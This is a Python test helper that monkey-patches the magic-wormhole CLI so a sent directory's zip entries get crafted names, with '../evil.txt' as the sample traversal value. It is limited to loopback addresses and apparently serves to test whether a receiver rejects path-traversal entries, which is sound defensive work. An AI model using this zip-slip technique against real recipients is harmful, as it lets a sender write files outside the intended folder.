"""A hostile directory sender: the reference CLI (magic-wormhole), with crafted zip entry names.

Usage: `python crafted_zip_sender.py RENAMES -- <wormhole CLI arguments>`, where RENAMES is
`name=crafted[;name=crafted...]`: each entry that the CLI would name `name` (relative to the sent
folder) is named `crafted` in the zip instead, e.g. `evil.txt=../evil.txt`. Everything else is
the real CLI (offer, transit, ack), with the same loopback-only guards as `wormhole_cli.py`.
"""

import os
import sys

os.environ.setdefault("WORMHOLE_RELAY_URL", "ws://127.0.0.1:1/v1")
os.environ.setdefault("WORMHOLE_TRANSIT_HELPER", "tcp:127.0.0.1:1")

from wormhole import ipaddrs  # noqa: E402


def _loopback_only():
    return ["127.0.0.1"]


ipaddrs.find_addresses = _loopback_only

from wormhole.cli import cmd_send  # noqa: E402
from wormhole.cli.cli import wormhole  # noqa: E402

RENAMES = {}


class CraftedZipStream(cmd_send.ZipStream):
    """A ZipStream that renames the entries listed in RENAMES."""

    def add_path(self, path, arcname=None, **kwargs):
        arcname = RENAMES.get(arcname, arcname)
        return super().add_path(path, arcname=arcname, **kwargs)


cmd_send.ZipStream = CraftedZipStream

if __name__ == "__main__":
    if len(sys.argv) < 3 or sys.argv[2] != "--":
        sys.exit("usage: crafted_zip_sender.py name=crafted[;...] -- <wormhole arguments>")
    for pair in sys.argv[1].split(";"):
        name, crafted = pair.split("=", 1)
        RENAMES[name] = crafted
    sys.exit(wormhole(args=sys.argv[3:], prog_name="wormhole"))
